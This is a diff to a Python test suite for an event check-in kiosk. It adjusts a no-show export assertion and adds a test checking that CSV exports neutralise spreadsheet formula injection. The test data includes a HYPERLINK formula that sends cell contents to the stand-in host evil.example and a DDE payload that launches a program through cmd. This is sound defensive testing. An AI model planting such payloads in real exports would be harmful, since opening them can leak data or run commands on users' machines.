@@ -152,7 +152,9 @@ def test_no_shows_and_attendees(busy: Store, tmp_path: Path) -> None:
     export(busy, "no-shows", "xlsx", out, now=_now())
     wb = openpyxl.load_workbook(out, read_only=True)
     for s in busy.stats():
-        assert wb[s.session_id].max_row - 1 == s.registered - s.admitted
+        assert wb[s.session_id].max_row - 1 == len(busy.no_shows(s.session_id))
+        if s.session_id == "matchmaking":  # restricted: only the registered are admitted
+            assert wb[s.session_id].max_row - 1 == s.registered - s.admitted
     wb.close()
     people = tmp_path / "people.json"
     export(busy, "attendees", "json", people, now=_now())
@@ -278,3 +280,36 @@ def test_cli_export(busy: Store, tmp_path: Path) -> None:
     assert r.exit_code == 1
     assert r.stderr.startswith(f"error: {bad}: cannot write: the folder")
     assert "Traceback" not in r.stderr
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', "+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturn"]  # fmt: skip
+
+
+def test_csv_exports_neutralise_formulas(tmp_path: Path) -> None:
+    from kiosk.checkin.bootstrap import init_database
+    from kiosk.models.event import load_event
+    from kiosk.models.records import AttendeeInput
+
+    store = init_database(tmp_path / "evil.sqlite", load_event())
+    service = CheckinService(store, at("09:05"), rng=random.Random(4))
+    people = [
+        AttendeeInput(name=f, organization=FORMULAS[(i + 1) % 6], title=FORMULAS[(i + 2) % 6],
+                      phone="+1 555 0100", notes=f, external_id=f"E{i}", sessions=("opening",))
+        for i, f in enumerate(FORMULAS)
+    ]  # fmt: skip
+    report = store.upsert_attendees(people, service.new_attendee_id, service.clock.now())
+    for aid in report.ids[:3]:
+        service.manual_check_in(aid, "opening")
+    cells = 0
+    for what in ("attendance", "scans", "no-shows", "attendees"):
+        out = tmp_path / f"{what}.csv"
+        export(store, what, "csv", out, now=_now())
+        for row in _read_csv(out):
+            for value in row.values():
+                assert not value[:1] or value[0] not in "=+-@\t\r", (what, value)
+                if value[:1] == "'" and value[1:2] in list("=+-@\t\r"):
+                    cells += 1
+                    assert value[1:] in [*FORMULAS, "+1 555 0100"]
+    assert cells >= 16
+    store.close()
